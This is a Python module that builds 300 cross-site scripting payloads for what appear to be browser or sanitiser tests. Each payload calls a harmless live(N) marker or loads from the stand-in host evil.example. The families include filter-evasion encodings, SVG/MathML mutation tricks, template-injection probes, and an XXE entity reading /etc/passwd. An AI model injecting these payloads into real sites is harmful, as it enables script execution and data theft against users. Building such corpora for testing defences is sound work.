"""Three hundred texts that strangers could write to become live in a page, made from the known families of such texts.

All payloads call `live(N)` or load from `evil.example`, so that one that works is seen in any browser. Each names its
number, so that a page tells which one it was.
"""

from __future__ import annotations

from itertools import islice, product

TOUCH = "live({n})"
"""What a payload runs; the browser tests define it and count its calls."""
_HANDLERS = (
    "onload",
    "onerror",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onpointerrawupdate",
    "onbegin",
)
_CARRIERS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "iframe",
    "math",
    "marquee",
    "a",
)
_TAGS = (
    "<script>{js}</script>",
    "<script/src=https://evil.example/x.js></script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<SCRIPT\n>{js}</SCRIPT\n>",
    "<script type=module>{js}</script>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><button>go</button></form>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<portal src=https://evil.example/></portal>",
    "<applet code=x></applet>",
    "<frameset onload={js}>",
    "<isindex action=javascript:{js}>",
    "<xml onreadystatechange={js}>",
    "<dialog open oncancel={js}>x</dialog>",
)
_CLOSERS = (
    "</title>",
    "</style>",
    "</script>",
    "</textarea>",
    "</noscript>",
    "-->",
    "]]>",
    "</p></blockquote></main>",
    '">',
    "'>",
    "`>",
    "</bdi></a>",
    "</template>",
    "</svg>",
    "</math>",
    "</iframe>",
    "</xmp>",
    "</plaintext>",
    "&lt;/title&gt;",
    "--!>",
)
_ATTRIBUTES = (
    '" {on}="{js}',
    "' {on}='{js}",
    '" {on}={js} x="',
    '"/{on}="{js}"/x="',
    "` {on}=`{js}`",
    '"\t{on}\n=\r"{js}',
    '"\x0c{on}="{js}',
)
_SCHEMES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    " javascript:{js}",
    "java\tscript:{js}",
    "java\nscript:{js}",
    "\x01javascript:{js}",
    "javascript&colon;{js}",
    "&#106;avascript:{js}",
    "javascript://%0a{js}",
    "vbscript:{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD5saXZlKDEpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload={js}>",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
    "view-source:javascript:{js}",
    "//evil.example/{n}",
    "\\\\evil.example\\{n}",
    "https://user:pass@evil.example/",
    'https://ok.example/"{on}="{js}',
    "feed:javascript:{js}",
    "jar:javascript:{js}!/",
    "file:///etc/passwd",
    "intent://x#Intent;scheme=javascript;end",
    "[x](javascript:{js})",
    "![x](https://evil.example/{n}.png)",
)
_SVG = (
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><script href=https://evil.example/x /></svg>",
    "<svg><a xlink:href=javascript:{js}><text y=9>x</text></a></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{js}></svg>",
    "<svg><foreignObject><iframe onload={js}></iframe></foreignObject>",
    "<svg><use href=https://evil.example/x.svg#x></svg>",
    "<svg><image href=https://evil.example/{n}.png></svg>",
    "<svg><style>@import 'https://evil.example/{n}.css'</style></svg>",
    "<svg><handler>{js}</handler></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    "<math href=javascript:{js}>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{js}>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src onerror={js}></annotation-xml></math>",
    '<svg></p><style><a id="</style><img src=1 onerror={js}>">',
    "<svg><desc><![CDATA[</desc><script>{js}</script>]]></svg>",
    "<svg><title><style><img src=x onerror={js}></style></title></svg>",
)
_TEMPLATES = (
    "{{{{ 7 * 7 }}}}",
    "{{{{ self.__init__.__globals__ }}}}",
    "{{% for x in (1,) %}}<script>{js}</script>{{% endfor %}}",
    "{{# {n} #}}",
    "${{{js}}}",
    "#{{{js}}}",
    "<%= {js} %>",
    "{{{{constructor.constructor('{js}')()}}}}",
    "<x ng-app>{{{{{js}}}}}</x>",
    "%7B%7B{n}%7D%7D",
    "<div v-html=\"'<img src=x onerror={js}>'\">",
    "<div x-init={js}>",
    "<b hx-get=https://evil.example/ hx-trigger=load>",
)
_CSS = (
    "<style>@import 'https://evil.example/{n}.css';</style>",
    "<p style=background:url(https://evil.example/{n})>",
    "}}</style><script>{js}</script>",
    '<div style="animation-name:x" onanimationstart={js}>',
    '<p style="x:expression({js})">',
    '<p style="-moz-binding:url(https://evil.example/x)">',
    "</style><link rel=stylesheet href=data:text/css,*%7Bdisplay:none%7D>",
    "<style>*{{background:url('javascript:{js}')}}</style>",
)
_CODINGS = (
    "%3Cscript%3E{js}%3C/script%3E",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{js}\\x3c/script\\x3e",
    "＜script＞{js}＜/script＞",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "<\x00script>{js}</script>",
    "<script\x00>{js}</script>",
    "<\u2028script>{js}</script>",
    "¼script¾{js}¼/script¾",
    "\u202e<script>{js}</script>",
    "\u2066<img src=x onerror={js}>\u2069",
    "\ufeff<script>{js}</script>",
    "<ſcript>{js}</ſcript>",
    "<ımg src=x onerror={js}>",
    "<img\u00a0src=x\u00a0onerror={js}>",
    "<img src=x onerror\u200b={js}>",
    '<a href="\u2003javascript:{js}">x</a>',
    "\u200f\u200e<svg/onload={js}>",
    "<!--><script>{js}</script>",
    "<!--\x2d-!><script>{js}</script>",
    "<![CDATA[<script>{js}</script>]]>",
    "<?php {js} ?>",
    '<?xml version="1.0"?><?xml-stylesheet href="javascript:{js}"?>',
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    "<img src=x onerror=&#108;&#105;&#118;&#101;({n})>",
    "<img src=x:x onerror\n=\n{js}//",
    "<img/src/onerror={js}>",
    "<img src=x onerror={js}",
    "<<img src=x onerror={js}>>",
    "<a id=location name=body>",
    "<form id=document><input name=cookie>",
    "<img name=getElementById>",
    "e\u0301\u0316\u0489" * 40 + "<script>{js}</script>",
)


def _made() -> list[str]:
    handlers = [f"<{carrier} {on}={{js}}>" for carrier, on in product(_CARRIERS, _HANDLERS)]
    attributes = [text.replace("{on}", on) for text, on in product(_ATTRIBUTES, _HANDLERS)]
    closers = [f"{closer}<img src=x onerror={{js}}>" for closer in _CLOSERS]
    schemes = [text.replace("{on}", "onfocus") for text in _SCHEMES]
    linked = [f'<a href="{scheme}">x</a>' for scheme in schemes]
    families = [_TAGS, closers, attributes, schemes, linked, _SVG, _TEMPLATES, _CSS, _CODINGS, handlers]
    return [text for family in families for text in family]


def payloads(count: int = 300) -> list[str]:
    """Return ``count`` different payloads; those of the last family are what is left out of a smaller number."""
    templates = _made()
    assert len(templates) >= count, f"the families give {len(templates)} payloads"
    return [text.format(n=number, js=TOUCH.format(n=number)) for number, text in enumerate(islice(templates, count))]
